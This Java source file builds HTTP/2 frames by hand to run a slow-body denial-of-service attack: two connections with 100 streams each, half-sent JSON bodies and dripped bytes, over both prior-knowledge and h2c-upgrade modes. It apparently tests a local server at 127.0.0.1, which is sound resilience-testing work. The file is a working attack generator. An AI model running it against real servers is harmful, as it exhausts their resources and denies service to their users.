import java.io.ByteArrayOutputStream;
import java.util.List;

/**
 * Incomplete bodies over HTTP/2 without TLS: two connections with 100 streams each. The few frames are written by hand (RFC 9113, section
 * 4.1), with headers as literals without indexing (RFC 7541, section 6.2.2).
 */
final class Http2 {

    private static final int CONNECTIONS = 2;
    private static final int STREAMS = 100;
    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int SETTINGS = 4;
    private static final int END_HEADERS = 4;

    private final List<String> paths;

    Http2(List<String> paths) {
        this.paths = paths;
    }

    Attack priorKnowledge() {
        return Attack.dripping(
                "HTTP/2, prior knowledge", CONNECTIONS, 1, i -> halfBodies(1), (i, n) -> spaces(1), 4_000);
    }

    /** Returns the attack that begins with an upgrade; the first stream is the request that asked for it (RFC 7540, section 3.2). */
    Attack upgrade() {
        byte[] request = Attack.utf8("GET /.well-known/jwks.json HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n");
        return Attack.dripping(
                "HTTP/2, upgrade", CONNECTIONS, 1, i -> request, (i, n) -> n == 0 ? halfBodies(3) : spaces(3), 2_000);
    }

    private byte[] halfBodies(int firstStream) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(Attack.utf8(PREFACE));
        frame(bytes, SETTINGS, 0, 0, new byte[0]);
        for (int i = 0; i < STREAMS; i++) {
            int stream = firstStream + 2 * i;
            frame(bytes, HEADERS, END_HEADERS, stream, headers(paths.get(i % paths.size())));
            frame(bytes, DATA, 0, stream, new byte[] {'{'});
        }
        return bytes.toByteArray();
    }

    /** Returns frames with one more byte for every body. */
    private static byte[] spaces(int firstStream) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int i = 0; i < STREAMS; i++) {
            frame(bytes, DATA, 0, firstStream + 2 * i, new byte[] {' '});
        }
        return bytes.toByteArray();
    }

    private static void frame(ByteArrayOutputStream to, int type, int flags, int stream, byte[] payload) {
        to.write(payload.length >>> 16);
        to.write(payload.length >>> 8);
        to.write(payload.length);
        to.write(type);
        to.write(flags);
        to.write(stream >>> 24);
        to.write(stream >>> 16);
        to.write(stream >>> 8);
        to.write(stream);
        to.writeBytes(payload);
    }

    private static byte[] headers(String path) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        // ":method: POST" and ":scheme: http" of the static table
        block.write(0x83);
        block.write(0x86);
        literal(block, ":path", path);
        literal(block, ":authority", "127.0.0.1");
        literal(block, "content-type", "application/json");
        literal(block, "content-length", "99");
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream to, String name, String value) {
        to.write(0);
        for (String text : List.of(name, value)) {
            to.write(text.length());
            to.writeBytes(Attack.utf8(text));
        }
    }
}
